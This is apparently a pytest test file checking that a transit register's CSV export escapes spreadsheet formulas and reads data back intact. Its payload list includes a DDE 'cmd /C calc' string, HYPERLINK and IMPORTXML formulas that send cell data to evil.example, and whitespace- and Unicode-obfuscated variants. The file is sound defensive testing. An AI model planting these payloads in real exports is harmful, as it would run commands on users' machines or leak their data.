"""The register as tables: read back as it was, and nothing that somebody wrote into a name is run by a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.features import registered
from transit.models import Operator, Service
from transit.publishing.sheets import cell

pytestmark = pytest.mark.django_db
CALC = "cmd|' /C calc'!A0"
FORMULAS = [
    f"={CALC}", '=HYPERLINK("https://evil.example?x="&A1,"click")', f"+1+{CALC}", f"-2+3+{CALC}", f"@SUM(1+1)*{CALC}",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1",
    '=IMPORTXML("https://evil.example","//a")', '=1+1",=2+2',
]  # fmt: skip


def rows(client: Client, sheet: str) -> list[dict[str, str]]:
    answer = client.get(f"/api/v1/register/{sheet}.csv")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == f'attachment; filename="{sheet}.csv"'
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_read_back(client: Client) -> None:
    region = registered.region()
    registered.taxi(region)
    registered.bus(region)
    registered.ride(region)
    operators = {row["code"]: row for row in rows(client, "operators")}
    assert operators["valley-taxi"]["licensing_office"] == "Coast Transport Bureau"
    assert operators["valley-taxi"]["phone"] == "'+358 100 1", "a number that begins as a formula does"
    services = {row["code"]: row for row in rows(client, "services")}
    taxi = services["valley-taxi"]
    assert taxi["opening_hours"] == "Mo-Fr 06:00-22:00; Sa 18:00-02:00; 2026 Dec 24-2026 Dec 25 off"
    assert (taxi["names_fi"], taxi["names_ja"], taxi["descriptions_en"]) == (
        "Laakson taksi", "谷タクシー", "Taxis by telephone."
    )  # fmt: skip
    assert taxi["areas"] == "River valley; Port"
    assert taxi["prices"] == "Start 6.00 EUR / start; Distance 1.10 EUR / kilometre"
    assert taxi["facilities"] == "child-seat: none; suitable-for-wheelchairs: some"
    assert taxi["payment_methods"] == "cash; credit-card"
    assert services["village-ride"]["council_decided_on"] == "2026-03-04"
    assert {row["name"] for row in rows(client, "interfaces")} == {"coast", "coast-now", "coast-old", "coast-tomp"}
    assert client.get("/api/v1/register/secrets.csv").status_code == 404


@pytest.mark.parametrize("written", FORMULAS)
def test_no_formula(client: Client, written: str) -> None:
    region = registered.region()
    service = registered.taxi(region)
    stored = written.replace("\0", "")  # PostgreSQL keeps none
    Operator.objects.update(legal_name=stored, licensing_office=stored)
    Service.objects.update(name=stored, descriptions={"en": stored}, council=stored)
    service.areas.update(name=stored)
    (operator,), (row,) = rows(client, "operators"), rows(client, "services")
    for value in [operator["legal_name"], operator["licensing_office"], row["name"], row["areas"], row["council"],
                  row["descriptions_en"], row["operator_name"]]:  # fmt: skip
        assert value.startswith("'"), f"{value!r} is run"
        assert stored.strip("\ufeff\r\n\t ") in value, "and nothing is lost"
    assert cell(written).startswith("'")
